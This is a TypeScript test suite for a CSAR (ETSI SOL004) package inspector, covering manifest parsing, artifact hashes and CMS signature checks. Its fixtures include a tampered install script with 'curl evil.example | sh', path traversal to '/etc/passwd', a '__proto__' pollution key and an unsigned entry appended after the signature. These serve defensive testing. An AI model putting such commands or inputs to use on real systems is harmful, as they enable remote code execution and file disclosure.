// SOL004 structure: both CSAR layouts, TOSCA.meta and manifest parsing, artifact presence and hashes
// (every algorithm), and CMS manifest signatures made in the test with a throwaway CA.
import { before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createHash, randomBytes } from 'node:crypto';
import { openArchive } from '#lib/packages/archive.ts';
import { bufferSource } from '#lib/packages/byte-source.ts';
import { inspectCsar, type CsarInfo, type InspectCsarOptions } from '#lib/packages/csar.ts';
import { PackageError } from '#lib/packages/errors.ts';
import { type Identity, makeIdentity, signCms as signWith } from '../../support/pki.ts';
import { buildZip } from '../../support/zip-craft.ts';

type Files = Record<string, string | Buffer>;

function sha(algorithm: string, content: string | Buffer): string {
  return createHash(algorithm).update(content).digest('hex');
}

async function inspect(files: Files, options?: InspectCsarOptions): Promise<CsarInfo> {
  const archive = await openArchive(bufferSource(await buildZip(files)));
  try {
    return await inspectCsar(archive, options);
  } finally {
    await archive.close();
  }
}

async function assertRefused(files: Files, message: RegExp, where: string | undefined, options?: InspectCsarOptions): Promise<void> {
  await assert.rejects(inspect(files, options), (error: unknown) => {
    assert.ok(error instanceof PackageError, `expected a PackageError, got ${String(error)}`);
    assert.match(error.message, message);
    assert.equal(error.where, where);
    return true;
  });
}

const TOP_VNFD =
  'tosca_definitions_version: tosca_simple_yaml_1_2\n\ndescription: Sample VNF\n\nimports:\n  - etsi_nfv_sol001_common_types.yaml\n  - sample_vnfd_df_simple.yaml\n';
const DF_SIMPLE = 'tosca_definitions_version: tosca_simple_yaml_1_2\n\ndescription: Simple deployment flavour\n';
const COMMON_TYPES = 'tosca_definitions_version: tosca_simple_yaml_1_2\n\ndescription: ETSI NFV SOL 001 common types\n';
const HOT_TOP = 'heat_template_version: 2013-05-23\ndescription: top\n';
const HOT_VDU1 = 'heat_template_version: 2013-05-23\ndescription: VDU1\n';
const INSTALL = '#!/bin/sh\necho "installing"\n';
const IMAGE = randomBytes(64 * 1024);
const LICENSE = 'Apache License 2.0\n';
const CHANGELOG = '1.0: first release\n';

const TOSCA_META = [
  'TOSCA-Meta-File-Version: 1.0',
  'CSAR-Version: 1.1',
  'Created-by: Tacker',
  'Entry-Definitions: Definitions/sample_vnfd_top.yaml',
  'ETSI-Entry-Manifest: manifest.mf',
  'ETSI-Entry-Change-Log: ChangeLog.txt',
  'ETSI-Entry-Licenses: Licenses',
  '',
  'Name: Files/images/cirros.img',
  'Content-Type: application/x-iso9066-image',
  'Algorithm: SHA-256',
  `Hash: ${sha('sha256', IMAGE)}`,
  '',
].join('\n');

const MANIFEST_BODY = [
  'metadata:',
  'vnf_provider_id: Company',
  'vnf_product_name: Sample VNF',
  'vnf_release_date_time: 2024-01-01T00:00:00+00:00',
  'vnf_package_version: 1.0',
  '',
  'Source: Definitions/sample_vnfd_top.yaml',
  'Algorithm: SHA-256',
  `Hash: ${sha('sha256', TOP_VNFD)}`,
  '',
  'Source: Definitions/sample_vnfd_df_simple.yaml',
  'Algorithm: SHA-224',
  `Hash: ${sha('sha224', DF_SIMPLE)}`,
  '',
  'Source: BaseHOT/simple/sample_hot_top.yaml',
  'Algorithm: sha-384',
  `Hash: ${sha('sha384', HOT_TOP)}`,
  '',
  'Source: BaseHOT/simple/nested/VDU1.yaml',
  'Algorithm: SHA512',
  `Hash: ${sha('sha512', HOT_VDU1).toUpperCase()}`,
  '',
  'Source: Files/images/cirros.img',
  'Algorithm: SHA-512',
  `Hash: ${sha('sha512', IMAGE)}`,
  '',
  'Source: Scripts/install.sh',
  'Algorithm: SHA256',
  `Hash: ${sha('sha256', INSTALL)}`,
  '',
  'Source: https://vendor.example.com/sample/v1/scale.sh',
  'Algorithm: SHA-256',
  `Hash: ${'ab'.repeat(32)}`,
  '',
  'non_mano_artifact_sets:',
  '  prv.example.docs:',
  '    Source: Licenses/LICENSE.txt',
  '',
].join('\n');

function tackerFiles(overrides: Files = {}): Files {
  return {
    'TOSCA-Metadata/TOSCA.meta': TOSCA_META,
    'manifest.mf': MANIFEST_BODY,
    'ChangeLog.txt': CHANGELOG,
    'Licenses/LICENSE.txt': LICENSE,
    'Definitions/sample_vnfd_top.yaml': TOP_VNFD,
    'Definitions/sample_vnfd_df_simple.yaml': DF_SIMPLE,
    'Definitions/etsi_nfv_sol001_common_types.yaml': COMMON_TYPES,
    'BaseHOT/simple/sample_hot_top.yaml': HOT_TOP,
    'BaseHOT/simple/nested/VDU1.yaml': HOT_VDU1,
    'Files/images/cirros.img': IMAGE,
    'Scripts/install.sh': INSTALL,
    ...overrides,
  };
}

/** Line number (1-based) of the first line of `text` starting with `prefix`. */
function lineOf(text: string, prefix: string): number {
  const index = text.split('\n').findIndex((line) => line.startsWith(prefix));
  assert.ok(index >= 0, `no line starting with ${prefix}`);
  return index + 1;
}

describe('inspectCsar: TOSCA-Metadata layout', () => {
  it('reads a Tacker-style package: block 0, manifest metadata, artifacts with every hash algorithm, non-MANO sets', async () => {
    const info = await inspect(tackerFiles());
    assert.deepEqual(info, {
      layout: 'tosca-metadata',
      entryDefinitions: 'Definitions/sample_vnfd_top.yaml',
      toscaMeta: {
        'TOSCA-Meta-File-Version': '1.0',
        'CSAR-Version': '1.1',
        'Created-by': 'Tacker',
        'Entry-Definitions': 'Definitions/sample_vnfd_top.yaml',
        'ETSI-Entry-Manifest': 'manifest.mf',
        'ETSI-Entry-Change-Log': 'ChangeLog.txt',
        'ETSI-Entry-Licenses': 'Licenses',
      },
      manifestPath: 'manifest.mf',
      manifestMetadata: {
        vnf_provider_id: 'Company',
        vnf_product_name: 'Sample VNF',
        vnf_release_date_time: '2024-01-01T00:00:00+00:00',
        vnf_package_version: '1.0',
      },
      artifacts: [
        { artifactPath: 'Definitions/sample_vnfd_top.yaml', isExternal: false, checksum: { algorithm: 'SHA-256', hash: sha('sha256', TOP_VNFD) } },
        { artifactPath: 'Definitions/sample_vnfd_df_simple.yaml', isExternal: false, checksum: { algorithm: 'SHA-224', hash: sha('sha224', DF_SIMPLE) } },
        { artifactPath: 'BaseHOT/simple/sample_hot_top.yaml', isExternal: false, checksum: { algorithm: 'SHA-384', hash: sha('sha384', HOT_TOP) } },
        { artifactPath: 'BaseHOT/simple/nested/VDU1.yaml', isExternal: false, checksum: { algorithm: 'SHA-512', hash: sha('sha512', HOT_VDU1) } },
        {
          artifactPath: 'Files/images/cirros.img',
          isExternal: false,
          checksum: { algorithm: 'SHA-512', hash: sha('sha512', IMAGE) },
          metadata: { 'Content-Type': 'application/x-iso9066-image' },
        },
        { artifactPath: 'Scripts/install.sh', isExternal: false, checksum: { algorithm: 'SHA-256', hash: sha('sha256', INSTALL) } },
        { artifactPath: 'https://vendor.example.com/sample/v1/scale.sh', isExternal: true, checksum: { algorithm: 'SHA-256', hash: 'ab'.repeat(32) } },
        { artifactPath: 'Licenses/LICENSE.txt', isExternal: false, nonManoArtifactSetId: 'prv.example.docs' },
      ],
      signature: { present: false, verified: false },
    });
  });

  it('takes artifacts from TOSCA.meta blocks when there is no manifest (older Tacker packages)', async () => {
    const meta = [
      'TOSCA-Meta-File-Version: 1.0',
      'Created-By: Hiroyuki JO',
      'CSAR-Version: 1.2',
      'Entry-Definitions: Definitions/sample_vnfd_top.yaml',
      '',
      'Source: Scripts/install.sh',
      'Algorithm: SHA-256',
      `Hash: ${sha('sha256', INSTALL)}`,
      '',
      'Name: Files/images/cirros.img',
      'Content-type: application/x-iso9066-image',
      '',
    ].join('\r\n');
    const files = tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta });
    delete files['manifest.mf'];
    const info = await inspect(files);
    assert.equal(info.manifestPath, undefined);
    assert.deepEqual(info.manifestMetadata, {});
    assert.equal(info.toscaMeta?.['Created-by'], 'Hiroyuki JO');
    assert.deepEqual(info.artifacts, [
      { artifactPath: 'Scripts/install.sh', isExternal: false, checksum: { algorithm: 'SHA-256', hash: sha('sha256', INSTALL) } },
      { artifactPath: 'Files/images/cirros.img', isExternal: false, metadata: { 'Content-type': 'application/x-iso9066-image' } },
    ]);
  });

  it('refuses a wrong hash in a TOSCA.meta block', async () => {
    const meta = TOSCA_META.replace(`Hash: ${sha('sha256', IMAGE)}`, `Hash: ${'0'.repeat(64)}`);
    await assertRefused(
      tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta }),
      new RegExp(`^SHA-256 hash mismatch: TOSCA.meta says ${'0'.repeat(64)}, content is ${sha('sha256', IMAGE)}$`),
      'Files/images/cirros.img',
    );
  });

  it('refuses a TOSCA-Metadata directory without TOSCA.meta', async () => {
    const files = tackerFiles({ 'TOSCA-Metadata/README': 'x' });
    delete files['TOSCA-Metadata/TOSCA.meta'];
    await assertRefused(files, /^the archive has a TOSCA-Metadata directory but no TOSCA-Metadata\/TOSCA.meta$/, 'TOSCA-Metadata/TOSCA.meta');
  });

  it('refuses an Entry-Definitions that is not in the archive', async () => {
    const files = tackerFiles();
    delete files['Definitions/sample_vnfd_top.yaml'];
    await assertRefused(files, /^Entry-Definitions "Definitions\/sample_vnfd_top.yaml" is not a file in the archive$/, 'TOSCA-Metadata/TOSCA.meta:4');
  });

  it('refuses block 0 without Entry-Definitions', async () => {
    const meta = TOSCA_META.replace('Entry-Definitions: Definitions/sample_vnfd_top.yaml\n', '');
    await assertRefused(tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta }), /^block 0 has no "Entry-Definitions"$/, 'TOSCA-Metadata/TOSCA.meta');
  });

  it('refuses an unsupported CSAR-Version', async () => {
    const meta = TOSCA_META.replace('CSAR-Version: 1.1', 'CSAR-Version: 2.0');
    await assertRefused(
      tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta }),
      /^unsupported CSAR-Version "2.0" \(1.1 and 1.2 are supported\)$/,
      'TOSCA-Metadata/TOSCA.meta:2',
    );
  });

  it('refuses an unsupported TOSCA-Meta-File-Version', async () => {
    const meta = TOSCA_META.replace('TOSCA-Meta-File-Version: 1.0', 'TOSCA-Meta-File-Version: 2.0');
    await assertRefused(
      tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta }),
      /^unsupported TOSCA-Meta-File-Version "2.0" \(1.0 is supported\)$/,
      'TOSCA-Metadata/TOSCA.meta:1',
    );
  });

  it('refuses a line that is not "Name: value"', async () => {
    const meta = TOSCA_META.replace('Created-by: Tacker', 'Created by Tacker');
    await assertRefused(
      tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta }),
      /^cannot parse line: expected "Name: value", found "Created by Tacker"$/,
      'TOSCA-Metadata/TOSCA.meta:3',
    );
  });

  it('refuses an ETSI-Entry-Manifest that is not in the archive', async () => {
    const files = tackerFiles();
    delete files['manifest.mf'];
    await assertRefused(files, /^ETSI-Entry-Manifest "manifest.mf" is not a file in the archive$/, 'TOSCA-Metadata/TOSCA.meta:5');
  });

  it('refuses ETSI-Entry-Licenses naming nothing in the archive', async () => {
    const files = tackerFiles();
    delete files['Licenses/LICENSE.txt'];
    const manifest = MANIFEST_BODY.replace(/non_mano_artifact_sets:[\s\S]*$/, '');
    await assertRefused({ ...files, 'manifest.mf': manifest }, /^ETSI-Entry-Licenses "Licenses" is not in the archive$/, 'TOSCA-Metadata/TOSCA.meta:7');
  });

  it('refuses a path in TOSCA.meta that leaves the archive', async () => {
    const meta = TOSCA_META.replace('Entry-Definitions: Definitions/sample_vnfd_top.yaml', 'Entry-Definitions: ../Definitions/sample_vnfd_top.yaml');
    await assertRefused(
      tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta }),
      /^path "..\/Definitions\/sample_vnfd_top.yaml" must be relative to the CSAR root and stay inside it$/,
      'TOSCA-Metadata/TOSCA.meta:4',
    );
  });
});

describe('inspectCsar: root YAML layout', () => {
  const VNFD = '# Sample VNF\ntosca_definitions_version: tosca_simple_yaml_1_2\n';
  const rootManifest = [
    'metadata:',
    'vnf_product_name: Sample',
    'vnf_provider_id: Company',
    'vnf_package_version: 1.0',
    'vnf_release_date_time: 2024-01-01T00:00:00Z',
    '',
    'Source: vnfd.yaml',
    'Algorithm: SHA-256',
    `Hash: ${sha('sha256', VNFD)}`,
    '',
    'Source: Scripts/install.sh',
    'Algorithm: SHA-256',
    `Hash: ${sha('sha256', INSTALL)}`,
    '',
  ].join('\n');

  it('reads a package whose entry definitions are the only YAML at the root', async () => {
    const info = await inspect({ 'vnfd.yaml': VNFD, 'vnfd.mf': rootManifest, 'Scripts/install.sh': INSTALL, 'Files/images/cirros.img': IMAGE });
    assert.equal(info.layout, 'root-yaml');
    assert.equal(info.entryDefinitions, 'vnfd.yaml');
    assert.equal(info.manifestPath, 'vnfd.mf');
    assert.equal(info.toscaMeta, undefined);
    assert.equal(info.manifestMetadata.vnf_product_name, 'Sample');
    assert.deepEqual(
      info.artifacts.map((artifact) => artifact.artifactPath),
      ['vnfd.yaml', 'Scripts/install.sh'],
    );
  });

  it('refuses two YAML files at the root', async () => {
    await assertRefused(
      { 'vnfd.yaml': VNFD, 'other.yml': VNFD, 'vnfd.mf': rootManifest, 'Scripts/install.sh': INSTALL },
      /^the entry definitions are ambiguous: no TOSCA-Metadata\/TOSCA.meta and 2 YAML files at the archive root \(other.yml, vnfd.yaml\)$/,
      undefined,
    );
  });

  it('refuses an archive with neither TOSCA.meta nor a root YAML file', async () => {
    await assertRefused(
      { 'Definitions/vnfd.yaml': VNFD },
      /^cannot find the entry definitions: no TOSCA-Metadata\/TOSCA.meta and no YAML file at the archive root$/,
      undefined,
    );
  });

  it('refuses a root YAML file that is not TOSCA', async () => {
    await assertRefused(
      { 'vnfd.yaml': 'heat_template_version: 2013-05-23\n', 'vnfd.mf': rootManifest },
      /^the root YAML file has no tosca_definitions_version in its first 50 lines/,
      'vnfd.yaml',
    );
  });

  it('refuses a missing manifest', async () => {
    await assertRefused(
      { 'vnfd.yaml': VNFD, 'Scripts/install.sh': INSTALL },
      /^no manifest: a CSAR without TOSCA-Metadata needs "vnfd.mf" beside "vnfd.yaml"$/,
      'vnfd.mf',
    );
  });

  it('refuses a manifest named differently from the entry definitions', async () => {
    await assertRefused(
      { 'vnfd.yaml': VNFD, 'VNF1.mf': rootManifest, 'Scripts/install.sh': INSTALL },
      /^manifest "VNF1.mf" does not have the base name of the entry definitions "vnfd.yaml"$/,
      'VNF1.mf',
    );
  });
});

describe('inspectCsar: manifest entries and hashes', () => {
  it('refuses a Source that is not in the archive', async () => {
    const files = tackerFiles();
    delete files['Scripts/install.sh'];
    await assertRefused(
      files,
      /^"Scripts\/install.sh" is listed but is not a file in the archive$/,
      `manifest.mf:${lineOf(MANIFEST_BODY, 'Source: Scripts/install.sh')}`,
    );
  });

  it('refuses content whose hash differs from the manifest', async () => {
    await assertRefused(
      tackerFiles({ 'Scripts/install.sh': '#!/bin/sh\ncurl evil.example | sh\n' }),
      new RegExp(`^SHA-256 hash mismatch: manifest says ${sha('sha256', INSTALL)}, content is ${sha('sha256', '#!/bin/sh\ncurl evil.example | sh\n')}$`),
      'Scripts/install.sh',
    );
  });

  it('refuses a wrong hash for a big artifact (SHA-512, streamed)', async () => {
    const other = randomBytes(IMAGE.length);
    await assertRefused(
      tackerFiles({ 'Files/images/cirros.img': other }),
      /^SHA-(256|512) hash mismatch: (manifest|TOSCA.meta) says [0-9a-f]+, content is [0-9a-f]+$/,
      'Files/images/cirros.img',
    );
  });

  for (const [spelling, algorithm, node] of [
    ['SHA-224', 'SHA-224', 'sha224'],
    ['sha-256', 'SHA-256', 'sha256'],
    ['SHA256', 'SHA-256', 'sha256'],
    ['Sha-384', 'SHA-384', 'sha384'],
    ['SHA_512', 'SHA-512', 'sha512'],
  ] as const) {
    it(`accepts Algorithm: ${spelling} and reports it as ${algorithm}`, async () => {
      const manifest = ['metadata:', 'vnf_product_name: x', '', 'Source: Scripts/install.sh', `Algorithm: ${spelling}`, `Hash: ${sha(node, INSTALL)}`, ''].join(
        '\n',
      );
      const info = await inspect(tackerFiles({ 'manifest.mf': manifest }));
      assert.deepEqual(info.artifacts[0], { artifactPath: 'Scripts/install.sh', isExternal: false, checksum: { algorithm, hash: sha(node, INSTALL) } });
    });
  }

  it('keeps odd metadata names as plain keys', async () => {
    const manifest = ['metadata:', '__proto__: polluted', 'constructor: x', '', 'Source: Scripts/install.sh', ''].join('\n');
    const info = await inspect(tackerFiles({ 'manifest.mf': manifest }));
    assert.ok(Object.hasOwn(info.manifestMetadata, '__proto__'));
    assert.equal(info.manifestMetadata.constructor, 'x');
    assert.equal(Object.getPrototypeOf(info.manifestMetadata), Object.prototype);
  });

  it('refuses an unsupported hash algorithm', async () => {
    const manifest = ['Source: Scripts/install.sh', 'Algorithm: MD5', `Hash: ${sha('md5', INSTALL)}`, ''].join('\n');
    await assertRefused(
      tackerFiles({ 'manifest.mf': manifest }),
      /^unsupported hash algorithm "MD5" \(SHA-224, SHA-256, SHA-384 and SHA-512 are accepted\)$/,
      'manifest.mf:1',
    );
  });

  it('refuses a hash of the wrong length', async () => {
    const manifest = ['Source: Scripts/install.sh', 'Algorithm: SHA-512', `Hash: ${sha('sha256', INSTALL)}`, ''].join('\n');
    await assertRefused(tackerFiles({ 'manifest.mf': manifest }), /^malformed SHA-512 hash "[0-9a-f]{64}" \(expected 128 hex digits\)$/, 'manifest.mf:1');
  });

  it('refuses Algorithm: outside a Source: block', async () => {
    const manifest = ['metadata:', 'vnf_product_name: x', '', 'Algorithm: SHA-256', ''].join('\n');
    await assertRefused(tackerFiles({ 'manifest.mf': manifest }), /^Algorithm: outside a Source: block$/, 'manifest.mf:4');
  });

  it('refuses a Source listed twice', async () => {
    const manifest = ['Source: Scripts/install.sh', '', 'Source: ./Scripts/install.sh', ''].join('\n');
    await assertRefused(tackerFiles({ 'manifest.mf': manifest }), /^"Scripts\/install.sh" is listed twice$/, 'manifest.mf:3');
  });

  it('refuses a Source that leaves the archive', async () => {
    const manifest = ['Source: ../../etc/passwd', 'Algorithm: SHA-256', `Hash: ${'0'.repeat(64)}`, ''].join('\n');
    await assertRefused(
      tackerFiles({ 'manifest.mf': manifest }),
      /^path "..\/..\/etc\/passwd" must be relative to the CSAR root and stay inside it$/,
      'manifest.mf:1',
    );
  });

  it('refuses an external artifact that is not http(s)', async () => {
    const manifest = ['Source: file:///etc/passwd', 'Algorithm: SHA-256', `Hash: ${'0'.repeat(64)}`, ''].join('\n');
    await assertRefused(
      tackerFiles({ 'manifest.mf': manifest }),
      /^external artifact "file:\/\/\/etc\/passwd" has an unsupported URI scheme \(http and https are accepted\)$/,
      'manifest.mf:1',
    );
  });

  it('records Signature: and Certificate: lines and refuses ones naming missing files', async () => {
    const withSignature = [
      'Source: Scripts/install.sh',
      'Algorithm: SHA-256',
      `Hash: ${sha('sha256', INSTALL)}`,
      'Signature: Scripts/install.sh.sig.cms',
      'Certificate: Scripts/install.sh.cert',
      '',
    ].join('\n');
    const info = await inspect(tackerFiles({ 'manifest.mf': withSignature, 'Scripts/install.sh.sig.cms': 'sig', 'Scripts/install.sh.cert': 'cert' }));
    assert.deepEqual(info.artifacts[0], {
      artifactPath: 'Scripts/install.sh',
      isExternal: false,
      checksum: { algorithm: 'SHA-256', hash: sha('sha256', INSTALL) },
      signaturePath: 'Scripts/install.sh.sig.cms',
      certificatePath: 'Scripts/install.sh.cert',
    });
    await assertRefused(
      tackerFiles({ 'manifest.mf': withSignature, 'Scripts/install.sh.cert': 'cert' }),
      /^"Scripts\/install.sh.sig.cms" is listed for "Scripts\/install.sh" but is not a file in the archive$/,
      'manifest.mf:1',
    );
  });
});

// ---------------------------------------------------------------------------------------------
// Signatures: a CA, a signer it issued, and an unrelated CA (test/support/pki.ts).

/** A CMS SignedData over `content` (detached unless `attached`) with content-type and message-digest signed attributes. */
function signCms(content: Buffer, signer: Identity, options: { includeCertificate?: boolean; attached?: boolean } = {}): Buffer {
  return signWith(content, signer, { attached: options.attached === true, certificates: options.includeCertificate === false ? [] : [signer] });
}

function cmsBlock(der: Buffer): string {
  return `-----BEGIN CMS-----\n${der.toString('base64').replace(/(.{64})/g, '$1\n')}\n-----END CMS-----\n`;
}

describe('inspectCsar: manifest signatures', () => {
  let ca: Identity;
  let signer: Identity;
  let otherCa: Identity;

  before(() => {
    ca = makeIdentity('Example Root CA');
    signer = makeIdentity('Example VNF Signer', { issuer: ca });
    otherCa = makeIdentity('Someone Else CA');
  });

  async function signedManifest(options: { includeCertificate?: boolean } = {}): Promise<string> {
    return `${MANIFEST_BODY}${cmsBlock(signCms(Buffer.from(MANIFEST_BODY), signer, options))}`;
  }

  it('verifies a manifest signed by a signer chaining to a trust anchor', async () => {
    const info = await inspect(tackerFiles({ 'manifest.mf': await signedManifest() }), { trustAnchors: [ca.pem], requireSignature: true });
    assert.deepEqual(info.signature, { present: true, verified: true, signerSubject: 'CN=Example VNF Signer,O=Example', sources: ['manifest.mf'] });
    assert.equal(info.artifacts.length, 8, 'the artifacts are still checked and listed');
  });

  it('verifies with the signer certificate from ETSI-Entry-Certificate when the CMS carries none', async () => {
    const meta = TOSCA_META.replace('ETSI-Entry-Licenses: Licenses', 'ETSI-Entry-Licenses: Licenses\nETSI-Entry-Certificate: Files/signer.cert');
    const info = await inspect(
      tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta, 'manifest.mf': await signedManifest({ includeCertificate: false }), 'Files/signer.cert': signer.pem }),
      { trustAnchors: [ca.pem] },
    );
    assert.deepEqual(info.signature, { present: true, verified: true, signerSubject: 'CN=Example VNF Signer,O=Example', sources: ['manifest.mf'] });
    assert.equal(info.toscaMeta?.['ETSI-Entry-Certificate'], 'Files/signer.cert');
  });

  it('verifies a detached .cms and .cert beside the manifest of a root-YAML package', async () => {
    const vnfd = 'tosca_definitions_version: tosca_simple_yaml_1_2\n';
    const manifest = ['metadata:', 'vnf_product_name: Sample', '', 'Source: vnfd.yaml', 'Algorithm: SHA-256', `Hash: ${sha('sha256', vnfd)}`, ''].join('\n');
    const detached = signCms(Buffer.from(manifest), signer, { includeCertificate: false });
    const info = await inspect({ 'vnfd.yaml': vnfd, 'vnfd.mf': manifest, 'vnfd.cms': cmsBlock(detached), 'vnfd.cert': signer.pem }, { trustAnchors: [ca.pem] });
    assert.deepEqual(info.signature, { present: true, verified: true, signerSubject: 'CN=Example VNF Signer,O=Example', sources: ['vnfd.cms'] });
  });

  it('accepts a signature over the manifest text without its trailing newline', async () => {
    const manifest = `${MANIFEST_BODY}\n${cmsBlock(signCms(Buffer.from(MANIFEST_BODY.trimEnd()), signer))}`;
    const info = await inspect(tackerFiles({ 'manifest.mf': manifest }), { trustAnchors: [ca.pem] });
    assert.equal(info.signature.verified, true);
  });

  it('verifies a CMS that encapsulates the manifest text, and refuses one that encapsulates other text', async () => {
    const attached = `${MANIFEST_BODY}${cmsBlock(signCms(Buffer.from(MANIFEST_BODY), signer, { attached: true }))}`;
    assert.equal((await inspect(tackerFiles({ 'manifest.mf': attached }), { trustAnchors: [ca.pem] })).signature.verified, true);
    const other = `${MANIFEST_BODY}${cmsBlock(signCms(Buffer.from('metadata:\nvnf_product_name: other\n'), signer, { attached: true }))}`;
    await assertRefused(tackerFiles({ 'manifest.mf': other }), /^the CMS signature encapsulates content that is not this manifest$/, 'manifest.mf', {
      trustAnchors: [ca.pem],
    });
  });

  it('refuses a manifest changed after signing', async () => {
    const tampered = (await signedManifest()).replace('vnf_package_version: 1.0', 'vnf_package_version: 1.1');
    await assertRefused(
      tackerFiles({ 'manifest.mf': tampered }),
      /^the signature does not match the manifest: the manifest was modified after signing, or the signature is not for it/,
      'manifest.mf',
      { trustAnchors: [ca.pem] },
    );
  });

  it('refuses a signer that does not chain to a trust anchor', async () => {
    await assertRefused(
      tackerFiles({ 'manifest.mf': await signedManifest() }),
      /^the signer certificate "CN=Example VNF Signer,O=Example" is not trusted: /,
      'manifest.mf',
      { trustAnchors: [otherCa.pem] },
    );
  });

  it('follows an intermediate CA from the certificate file, and refuses an expired signer', async () => {
    const intermediate = makeIdentity('Example Intermediate CA', { issuer: ca, ca: true });
    const deep = makeIdentity('Example Deep Signer', { issuer: intermediate });
    const meta = TOSCA_META.replace('ETSI-Entry-Licenses: Licenses', 'ETSI-Entry-Licenses: Licenses\nETSI-Entry-Certificate: Files/signer.cert');
    const manifest = `${MANIFEST_BODY}${cmsBlock(signWith(Buffer.from(MANIFEST_BODY), deep, { certificates: [] }))}`;
    const files = (cert: string): Files => tackerFiles({ 'TOSCA-Metadata/TOSCA.meta': meta, 'manifest.mf': manifest, 'Files/signer.cert': cert });
    const info = await inspect(files(`${deep.pem}${intermediate.pem}`), { trustAnchors: [ca.pem], requireSignature: true });
    assert.deepEqual(info.signature, { present: true, verified: true, signerSubject: 'CN=Example Deep Signer,O=Example', sources: ['manifest.mf'] });
    await assertRefused(
      files(deep.pem),
      /^the signer certificate "CN=Example Deep Signer,O=Example" is not trusted: no path to a trust anchor/,
      'manifest.mf',
      {
        trustAnchors: [ca.pem],
      },
    );
    const expired = makeIdentity('Example Expired Signer', { issuer: ca, notAfter: new Date(Date.now() - 60_000) });
    await assertRefused(
      tackerFiles({ 'manifest.mf': `${MANIFEST_BODY}${cmsBlock(signCms(Buffer.from(MANIFEST_BODY), expired))}` }),
      /^the signer certificate "CN=Example Expired Signer,O=Example" is not trusted: .* expired on /,
      'manifest.mf',
      { trustAnchors: [ca.pem] },
    );
  });

  it('refuses a self-signed signer that is not a trust anchor', async () => {
    const manifest = `${MANIFEST_BODY}${cmsBlock(signCms(Buffer.from(MANIFEST_BODY), otherCa))}`;
    await assertRefused(tackerFiles({ 'manifest.mf': manifest }), /^the signer certificate "CN=Someone Else CA,O=Example" is not trusted: /, 'manifest.mf', {
      trustAnchors: [ca.pem],
    });
  });

  it('checks but does not trust a signature when no trust anchors are configured', async () => {
    const info = await inspect(tackerFiles({ 'manifest.mf': await signedManifest() }));
    assert.deepEqual(info.signature, { present: true, verified: false, signerSubject: 'CN=Example VNF Signer,O=Example', sources: ['manifest.mf'] });
    await assertRefused(
      tackerFiles({ 'manifest.mf': await signedManifest() }),
      /^the manifest signature cannot be trusted: no trust anchors are configured, and a verified signature is required$/,
      'manifest.mf',
      { requireSignature: true },
    );
  });

  it('refuses an unsigned package when a signature is required', async () => {
    await assertRefused(tackerFiles(), /^the package is not signed, and a signed manifest is required$/, 'manifest.mf', {
      trustAnchors: [ca.pem],
      requireSignature: true,
    });
  });

  it('refuses a signature whose signer certificate is nowhere in the package', async () => {
    await assertRefused(
      tackerFiles({ 'manifest.mf': await signedManifest({ includeCertificate: false }) }),
      /^the signer certificate is missing: it is neither in the CMS signature nor in ETSI-Entry-Certificate or a .cert file beside the manifest$/,
      'manifest.mf',
      { trustAnchors: [ca.pem] },
    );
  });

  it('refuses a CMS block that is not SignedData', async () => {
    await assertRefused(
      tackerFiles({ 'manifest.mf': `${MANIFEST_BODY}${cmsBlock(Buffer.from('not a signature'))}` }),
      /^the signature is not a CMS SignedData structure: /,
      'manifest.mf',
    );
  });

  it('refuses text after the signature block', async () => {
    const manifest = `${await signedManifest()}\nSource: Scripts/evil.sh\n`;
    const line = manifest.split('\n').indexOf('Source: Scripts/evil.sh') + 1;
    await assertRefused(
      tackerFiles({ 'manifest.mf': manifest }),
      /^text after the CMS signature block is not covered by the signature$/,
      `manifest.mf:${line}`,
      { trustAnchors: [ca.pem] },
    );
  });
});
